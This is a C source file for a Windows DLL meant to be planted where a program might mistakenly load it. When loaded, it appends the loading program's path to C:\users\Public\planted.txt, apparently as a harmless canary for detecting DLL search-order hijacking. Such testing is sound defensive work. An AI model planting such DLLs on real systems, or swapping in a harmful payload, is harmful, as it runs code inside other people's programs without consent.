/*
 * Put where a program might look for a DLL by mistake: whoever loads it leaves
 * C:\users\Public\planted.txt with the loader's path.
 */
#include <windows.h>

BOOL WINAPI DllMain(HINSTANCE instance, DWORD reason, void *reserved);

BOOL WINAPI DllMain(HINSTANCE instance, DWORD reason, void *reserved)
{
    wchar_t path_w[MAX_PATH];
    DWORD length, written;
    HANDLE file;

    (void)instance;
    (void)reserved;
    if (reason != DLL_PROCESS_ATTACH)
        return TRUE;
    length = GetModuleFileNameW(NULL, path_w, MAX_PATH);
    file =
        CreateFileW(L"C:\\users\\Public\\planted.txt", FILE_APPEND_DATA, FILE_SHARE_READ, NULL, OPEN_ALWAYS, 0, NULL);
    if (file != INVALID_HANDLE_VALUE) {
        WriteFile(file, path_w, length * sizeof(wchar_t), &written, NULL);
        CloseHandle(file);
    }
    return TRUE;
}
